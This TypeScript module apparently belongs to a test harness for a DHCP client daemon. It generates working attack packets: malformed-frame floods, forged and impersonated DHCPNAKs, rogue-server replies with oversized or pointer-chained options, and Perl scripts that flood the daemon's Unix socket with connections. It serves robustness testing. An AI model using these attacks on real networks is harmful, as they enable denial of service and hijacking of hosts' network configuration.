/**
 * The attacks of a hostile neighbor on a segment, and of hostile users on the socket. Pure.
 *
 * @module
 */

import { concatBytes } from "../../lib/base/bytes.ts";
import {
  BROADCAST_FLAG,
  CLIENT_PORT,
  type DhcpMessage,
  encodeMessage,
  MESSAGE_TYPE,
  OP,
  SERVER_PORT,
} from "../../lib/dhcp/codec/dhcp_message.ts";
import { encodeIpv4Udp } from "../../lib/net/ipv4_udp.ts";
import type { Ipv4Address } from "../../lib/net/ipv4_address.ts";

/** An attack by frames or by connections. */
export type Attack =
  & {
    readonly name: string;
    /** For the report: what is sent. */
    readonly text: string;
  }
  & (
    | {
      /** Sends packets as fast as possible, without waiting for clients. */
      readonly kind: "flood";
      packets(): readonly Uint8Array[];
    }
    | {
      /** Sends many replies to each message of the victim. */
      readonly kind: "reply";
      readonly times: number;
      packets(message: DhcpMessage): readonly Uint8Array[];
    }
    | {
      /** Connects to the daemon's socket, after all users have been given access to it. */
      readonly kind: "connections";
      readonly user: "root" | "stranger";
      /**
       * Perl with the socket's path and the seconds as arguments; prints the number of connections.
       */
      readonly script: string;
    }
  );

const UNSPECIFIED: Ipv4Address = { family: 4, value: 0n };
const BROADCAST: Ipv4Address = { family: 4, value: 0xffffffffn };
/** The attacker's address, which it presents as a server's. */
const ROGUE: Ipv4Address = { family: 4, value: 0x0a090042n };
/** The server of the segment. */
const SERVER: Ipv4Address = { family: 4, value: 0x0a090001n };
const ROGUE_LEASE: Ipv4Address = { family: 4, value: 0x0a09fbfan };
/** Offsets in a packet without IPv4 options, and lengths of the fields that can hold options. */
const SNAME_OFFSET = 28 + 44;
const SNAME_BYTES = 64;
const FILE_BYTES = 128;
const OPTIONS_OFFSET = 28 + 240;
/** The number of different packets in a flood of random ones. */
const VARIETY = 256;

function bytesOf(address: Ipv4Address): Uint8Array {
  const bytes = new Uint8Array(4);
  new DataView(bytes.buffer).setUint32(0, Number(address.value));
  return bytes;
}

function u32(value: number): Uint8Array {
  return bytesOf({ family: 4, value: BigInt(value) });
}

/** Numbers that look random, the same in every run. */
function* numbers(): Generator<number> {
  for (let state = 0x9e3779b9;;) {
    state = Math.imul(state ^ (state >>> 15), 0x85ebca6b) >>> 0;
    state = (state + 0x9e3779b9) >>> 0;
    yield state;
  }
}

function randomBytes(length: number, source: Iterator<number>): Uint8Array {
  return Uint8Array.from({ length }, () => source.next().value & 0xff);
}

/** A datagram to the DHCP client port of all hosts. */
function datagram(payload: Uint8Array): Uint8Array {
  return encodeIpv4Udp({
    source: ROGUE,
    sourcePort: SERVER_PORT,
    destination: BROADCAST,
    destinationPort: CLIENT_PORT,
  }, payload);
}

type ReplyType = "OFFER" | "ACK" | "NAK";

/** A reply that a client would accept except for `fields`; undefined omits an option. */
function reply(
  type: ReplyType,
  { xid, chaddr }: Pick<DhcpMessage, "xid" | "chaddr">,
  options: Readonly<Record<number, Uint8Array | undefined>> = {},
): Uint8Array {
  const all: Record<number, Uint8Array | undefined> = {
    53: Uint8Array.of(MESSAGE_TYPE[type]),
    54: bytesOf(ROGUE),
    ...type === "NAK" ? {} : {
      1: Uint8Array.of(255, 255, 0, 0),
      3: bytesOf(ROGUE),
      51: u32(3600),
    },
    ...options,
  };
  const present = Object.entries(all).flatMap(([code, bytes]) =>
    bytes === undefined ? [] : [[Number(code), bytes] as const]
  );
  return datagram(encodeMessage({
    op: OP.bootReply,
    htype: 1,
    hops: 0,
    xid,
    secs: 0,
    flags: BROADCAST_FLAG,
    ciaddr: UNSPECIFIED,
    yiaddr: type === "NAK" ? UNSPECIFIED : ROGUE_LEASE,
    siaddr: UNSPECIFIED,
    giaddr: UNSPECIFIED,
    chaddr,
    sname: new Uint8Array(),
    file: new Uint8Array(),
    options: new Map(present),
  }));
}

const TYPES: readonly ReplyType[] = ["OFFER", "ACK", "NAK"];

/** The OFFER or ACK that answers the message, with more options. */
function rogueReply(
  message: DhcpMessage,
  options: Readonly<Record<number, Uint8Array>>,
): readonly Uint8Array[] {
  const [type = 0] = message.options.get(53) ?? [];
  if (type === MESSAGE_TYPE.DISCOVER) return [reply("OFFER", message, options)];
  if (type === MESSAGE_TYPE.REQUEST) return [reply("ACK", message, options)];
  return [];
}

/** As much of option 119 as a datagram can hold: each name points at the one before it. */
function pointerChain(): Uint8Array {
  const first = Uint8Array.of(1, 0x61, 0);
  const names = Array.from({ length: 4000 }, (_, index) => {
    const before = index === 0 ? 0 : 3 + (index - 1) * 4;
    return Uint8Array.of(1, 0x62, 0xc0 | (before >> 8) & 0x3f, before & 0xff);
  });
  return concatBytes([first, ...names]);
}

/** Routes of option 121, all different. */
function routes(count: number): Uint8Array {
  return concatBytes(Array.from(
    { length: count },
    (_, index) =>
      Uint8Array.of(24, 10, index >> 8, index & 0xff, ...bytesOf(ROGUE)),
  ));
}

/** Every option that has no meaning for the client, with this many bytes. */
function fillers(length: number): Readonly<Record<number, Uint8Array>> {
  const codes = Array.from({ length: 100 }, (_, index) => 125 + index);
  return Object.fromEntries(
    codes.map((code) => [code, new Uint8Array(length).fill(code)]),
  );
}

/** A reply of 64 KB whose `file` and `sname` hold options as well (RFC 2132 section 9.3). */
function overloaded(message: DhcpMessage): readonly Uint8Array[] {
  // Option 43 stands for option 52, which the encoder does not write.
  return rogueReply(message, { ...fillers(600), 43: Uint8Array.of(3) })
    .map((packet) => {
      const copy = packet.slice();
      const at = copy.findIndex((byte, index) =>
        index >= OPTIONS_OFFSET && byte === 43 && copy[index + 2] === 3
      );
      copy.set([52], at);
      copy.fill(0, SNAME_OFFSET, OPTIONS_OFFSET - 4);
      copy.set([12, SNAME_BYTES - 4], SNAME_OFFSET);
      copy.set([17, FILE_BYTES - 4], SNAME_OFFSET + SNAME_BYTES);
      return withoutChecksum(copy);
    });
}

/** The packet with another length in its IPv4 header, whose checksum is then wrong. */
function withTotalLength(packet: Uint8Array, length: number): Uint8Array {
  const copy = packet.slice();
  copy.set([0, length], 2);
  return copy;
}

/** A UDP checksum of 0 means that there is none (RFC 768). */
function withoutChecksum(packet: Uint8Array): Uint8Array {
  packet.set([0, 0], 26);
  return packet;
}

/** All attacks, in the order of the report. */
export const ATTACKS: readonly Attack[] = [
  {
    name: "none",
    text: "nothing, for comparison",
    kind: "connections",
    user: "root",
    script: "sleep $ARGV[1]",
  },
  {
    name: "short frames",
    text:
      "broadcast packets to port 68 of 1 to 80 bytes, with every length of the IPv4 header, and with total lengths that are too short",
    kind: "flood",
    packets: () => {
      const whole = datagram(new Uint8Array(52));
      const lengths = Array.from({ length: whole.length }, (_, at) => at + 1);
      const headerWords = Array.from({ length: 16 }, (_, words) => words);
      return lengths.flatMap((length) => [
        ...headerWords.map((words) => {
          const cut = whole.slice(0, length);
          cut.set([0x40 | words]);
          return cut;
        }),
        withTotalLength(whole, length),
      ]);
    },
  },
  {
    name: "broadcast noise",
    text: "broadcast datagrams of 300 random bytes to port 68",
    kind: "flood",
    packets: () => {
      const source = numbers();
      return Array.from(
        { length: VARIETY },
        () => datagram(randomBytes(300, source)),
      );
    },
  },
  {
    name: "unsolicited replies",
    text: "DHCPOFFER, DHCPACK and DHCPNAK with random xid and hardware address",
    kind: "flood",
    packets: () => {
      const source = numbers();
      return Array.from(
        { length: VARIETY },
        (_, index) =>
          reply(TYPES[index % 3] ?? "NAK", {
            xid: source.next().value,
            chaddr: randomBytes(6, source),
          }),
      );
    },
  },
  {
    name: "right xid",
    text:
      "300 replies to each message of the victim, with its xid and another hardware address",
    kind: "reply",
    times: 100,
    packets: ({ xid }) =>
      TYPES.map((type) =>
        reply(type, { xid, chaddr: Uint8Array.of(2, 0, 0, 0, 0, 1) })
      ),
  },
  {
    name: "unusable replies",
    text:
      "300 replies to each message of the victim, with its xid and hardware address, without a server identifier or an address",
    kind: "reply",
    times: 100,
    packets: (message) => [
      reply("OFFER", message, { 54: undefined }),
      reply("ACK", message, { 54: undefined, 1: undefined }),
      reply("NAK", message, { 54: undefined }),
    ],
  },
  {
    name: "forged DHCPNAK",
    text: "100 DHCPNAKs of another server to each message of the victim",
    kind: "reply",
    times: 100,
    packets: (message) => [reply("NAK", message)],
  },
  {
    name: "impersonated server",
    text:
      "100 DHCPNAKs in the name of the server to each message of the victim",
    kind: "reply",
    times: 100,
    packets: (message) => [reply("NAK", message, { 54: bytesOf(SERVER) })],
  },
  {
    name: "pointer chains",
    text: "a rogue server whose option 119 has 4,000 chained pointers",
    kind: "reply",
    times: 1,
    packets: (message) => rogueReply(message, { 119: pointerChain() }),
  },
  {
    name: "routes",
    text: "a rogue server whose option 121 has 7,000 routes",
    kind: "reply",
    times: 1,
    packets: (message) => rogueReply(message, { 121: routes(7000) }),
  },
  {
    name: "long options",
    text: "a rogue server with 100 options of 600 bytes",
    kind: "reply",
    times: 1,
    packets: (message) => rogueReply(message, fillers(600)),
  },
  {
    name: "overload",
    text: "the same with options in file and sname as well",
    kind: "reply",
    times: 1,
    packets: overloaded,
  },
  {
    name: "connections of a stranger",
    text: "another user connects to the socket and disconnects",
    kind: "connections",
    user: "stranger",
    script:
      `for ($end = time + $ARGV[1]; time < $end;) { $n++ if IO::Socket::UNIX->new(Peer => $ARGV[0]) }`,
  },
  {
    name: "silent connections",
    text: "root keeps 1,000 connections that send nothing",
    kind: "connections",
    user: "root",
    script:
      `for ($end = time + $ARGV[1]; time < $end; select undef, undef, undef, 0.1) {
         @open = grep { $_->connected } @open;
         while (@open < 1000) { push @open, IO::Socket::UNIX->new(Peer => $ARGV[0]) // last; $n++ }
       }`,
  },
];

/** Returns the attack of this name. @throws {RangeError} if there is none. */
export function attackOf(name: string): Attack {
  const found = ATTACKS.find((each) => each.name === name);
  if (found === undefined) throw new RangeError(`no attack "${name}"`);
  return found;
}
